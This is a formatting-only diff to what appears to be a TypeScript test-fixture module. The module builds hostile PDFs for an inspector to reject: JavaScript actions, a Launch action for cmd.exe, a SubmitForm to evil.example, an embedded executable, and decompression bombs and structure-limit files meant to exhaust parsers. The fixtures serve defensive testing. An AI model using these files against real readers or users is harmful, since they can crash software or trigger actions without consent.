@@ -68,11 +68,7 @@ export function truncatedPdf(fraction = 0.6): Uint8Array {
 
 /** The page tree's kid points back at its own parent. */
 export function cyclicPageTreePdf(): Uint8Array {
-  return assemble([
-    '<</Type/Catalog/Pages 2 0 R>>',
-    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
-    '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>',
-  ]);
+  return assemble(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>']);
 }
 
 /** An object (here in the catalog) nested `depth` arrays deep. */
@@ -86,11 +82,7 @@ export function deeplyNestedPdf(depth = 100_000): Uint8Array {
 
 /** Claims two billion pages; holds one. */
 export function hugePageCountPdf(count = 2_000_000_000): Uint8Array {
-  return assemble([
-    '<</Type/Catalog/Pages 2 0 R>>',
-    `<</Type/Pages/Kids[3 0 R]/Count ${count}>>`,
-    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>',
-  ]);
+  return assemble(['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Kids[3 0 R]/Count ${count}>>`, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>']);
 }
 
 /**
@@ -212,14 +204,21 @@ const BASE_PAGE = '/Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/
 /** A binary stream object body: the dictionary (without /Length) and its data. */
 function stream(dictEntries: string, data: Uint8Array | string): Uint8Array {
   const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
-  return new Uint8Array(Buffer.concat([Buffer.from(`<<${dictEntries}/Length ${bytes.length}>>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')]));
+  return new Uint8Array(
+    Buffer.concat([Buffer.from(`<<${dictEntries}/Length ${bytes.length}>>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')]),
+  );
 }
 
 /**
  * The minimal one-page file with additions: entries for the catalog and the page, and
  * objects numbered from 6 on (so `6 0 R` is the first extra object).
  */
-export function pdfWith({ catalog = '', page = '', objects = [], trailer = '' }: { catalog?: string; page?: string; objects?: (string | Uint8Array)[]; trailer?: string } = {}): Uint8Array {
+export function pdfWith({
+  catalog = '',
+  page = '',
+  objects = [],
+  trailer = '',
+}: { catalog?: string; page?: string; objects?: (string | Uint8Array)[]; trailer?: string } = {}): Uint8Array {
   return assemble(
     [
       `<<${BASE_CATALOG}${catalog}>>`,
@@ -238,17 +237,25 @@ const annotation = (subtype: string, extra = '') => `<</Type/Annot/Subtype/${sub
 /** Each kind of active content the inspector refuses, as the smallest file that has it. */
 export const ACTIVE_CONTENT_PDFS = {
   'document JavaScript (OpenAction)': () => pdfWith({ catalog: '/OpenAction 6 0 R', objects: ['<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>'] }),
-  'JavaScript name tree': () => pdfWith({ catalog: '/Names<</JavaScript 6 0 R>>', objects: ['<</Names[(a) 7 0 R]>>', '<</S/JavaScript/JS(app.alert\\(1\\))>>'] }),
+  'JavaScript name tree': () =>
+    pdfWith({ catalog: '/Names<</JavaScript 6 0 R>>', objects: ['<</Names[(a) 7 0 R]>>', '<</S/JavaScript/JS(app.alert\\(1\\))>>'] }),
   'page additional actions': () => pdfWith({ page: '/AA<</O<</S/JavaScript/JS(1)>>>>' }),
   'annotation JavaScript': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/JavaScript/JS(1)>>')] }),
   'form field action': () =>
-    pdfWith({ catalog: '/AcroForm<</Fields[6 0 R]>>', page: '/Annots[6 0 R]', objects: [annotation('Widget', '/FT/Tx/T(name)/AA<</K<</S/JavaScript/JS(1)>>>>')] }),
+    pdfWith({
+      catalog: '/AcroForm<</Fields[6 0 R]>>',
+      page: '/Annots[6 0 R]',
+      objects: [annotation('Widget', '/FT/Tx/T(name)/AA<</K<</S/JavaScript/JS(1)>>>>')],
+    }),
   'document additional actions': () => pdfWith({ catalog: '/AA<</WC<</S/JavaScript/JS(1)>>>>' }),
   launch: () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/Launch/F(cmd.exe)>>')] }),
   'submit form': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>')] }),
   'import data': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/ImportData/F(data.fdf)>>')] }),
   'embedded file': () =>
-    pdfWith({ catalog: '/Names<</EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>', objects: ['<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>', stream('/Type/EmbeddedFile', 'MZ')] }),
+    pdfWith({
+      catalog: '/Names<</EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>',
+      objects: ['<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>', stream('/Type/EmbeddedFile', 'MZ')],
+    }),
   'file attachment annotation': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('FileAttachment', '/FS<</Type/Filespec/F(a.txt)>>')] }),
   XFA: () => pdfWith({ catalog: '/AcroForm<</Fields[]/XFA 6 0 R>>', objects: [stream('', '<xdp:xdp/>')] }),
   'rich media': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('RichMedia')] }),
@@ -261,16 +268,22 @@ export const ACTIVE_CONTENT_PDFS = {
 
 /** Signature machinery already present. */
 export const SIGNATURE_MACHINERY_PDFS = {
-  'signature field': () => pdfWith({ catalog: '/AcroForm<</Fields[6 0 R]/SigFlags 3>>', page: '/Annots[6 0 R]', objects: [annotation('Widget', '/FT/Sig/T(Signature1)')] }),
+  'signature field': () =>
+    pdfWith({ catalog: '/AcroForm<</Fields[6 0 R]/SigFlags 3>>', page: '/Annots[6 0 R]', objects: [annotation('Widget', '/FT/Sig/T(Signature1)')] }),
   signature: () =>
     pdfWith({
       catalog: '/AcroForm<</Fields[6 0 R]>>',
       page: '/Annots[6 0 R]',
       objects: [annotation('Widget', '/FT/Sig/T(Signature1)/V 7 0 R'), `<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 10 20 30]/Contents<${'00'.repeat(64)}>>>`],
     }),
-  'DocMDP permissions': () => pdfWith({ catalog: '/Perms<</DocMDP 6 0 R>>', objects: ['<</Type/Sig/Reference[<</TransformMethod/DocMDP/TransformParams<</P 1>>>>]>>'] }),
+  'DocMDP permissions': () =>
+    pdfWith({ catalog: '/Perms<</DocMDP 6 0 R>>', objects: ['<</Type/Sig/Reference[<</TransformMethod/DocMDP/TransformParams<</P 1>>>>]>>'] }),
   FieldMDP: () =>
-    pdfWith({ catalog: '/AcroForm<</Fields[6 0 R]>>', page: '/Annots[6 0 R]', objects: [annotation('Widget', '/FT/Sig/T(S)/Lock<</Type/SigFieldLock/Action/All>>')] }),
+    pdfWith({
+      catalog: '/AcroForm<</Fields[6 0 R]>>',
+      page: '/Annots[6 0 R]',
+      objects: [annotation('Widget', '/FT/Sig/T(S)/Lock<</Type/SigFieldLock/Action/All>>')],
+    }),
   'usage rights (UR3)': () => pdfWith({ catalog: '/Perms<</UR3<</Reference[<</TransformMethod/UR3>>]>>>>' }),
 } as const;
 
@@ -345,15 +358,22 @@ export const DECODE_BOMB_PDFS = {
   font: () =>
     pdfWith({
       page: '/Resources<</Font<</F2 6 0 R>>>>',
-      objects: ['<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FontDescriptor 7 0 R>>', '<</Type/FontDescriptor/FontName/Bomb/FontFile2 8 0 R>>', stream('/Filter/FlateDecode', flateBomb(64))],
+      objects: [
+        '<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FontDescriptor 7 0 R>>',
+        '<</Type/FontDescriptor/FontName/Bomb/FontFile2 8 0 R>>',
+        stream('/Filter/FlateDecode', flateBomb(64)),
+      ],
     }),
   'object stream': () => objectStreamBombPdf(512),
   'xref stream': () => xrefStreamBombPdf(),
   'chain of filters (Flate over Flate, 1 GB page)': () =>
     pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(flateBomb(1024, 'BT ET ')))] }),
-  'LZW': () => pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter/LZWDecode', lzwBomb())] }),
+  LZW: () => pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter/LZWDecode', lzwBomb())] }),
   'RunLength under Flate': () =>
-    pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter[/FlateDecode/RunLengthDecode]', deflateSync(Buffer.alloc(8 * 1024 * 1024, Buffer.from([129, 0x20]))))] }),
+    pdfWith({
+      page: '/Contents 6 0 R',
+      objects: [stream('/Filter[/FlateDecode/RunLengthDecode]', deflateSync(Buffer.alloc(8 * 1024 * 1024, Buffer.from([129, 0x20]))))],
+    }),
 } as const;
 
 /** An xref stream whose compressed rows inflate to 512 MB: the reader meets it before anything else. */
@@ -404,7 +424,10 @@ export const STRUCTURE_LIMIT_PDFS = {
   'xref stream /W of 1 GB fields': () => hugeXrefStreamPdf({ size: 3, width: 1_000_000_000 }),
   'three billion objects': () => tooManyObjectsPdf(),
   'JPEG image of 100,000 × 100,000 pixels': () =>
-    pdfWith({ page: '/Resources<</XObject<</Im1 6 0 R>>>>', objects: [stream('/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode', '\xff\xd8\xff\xd9')] }),
+    pdfWith({
+      page: '/Resources<</XObject<</Im1 6 0 R>>>>',
+      objects: [stream('/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode', '\xff\xd8\xff\xd9')],
+    }),
 } as const;
 
 /**
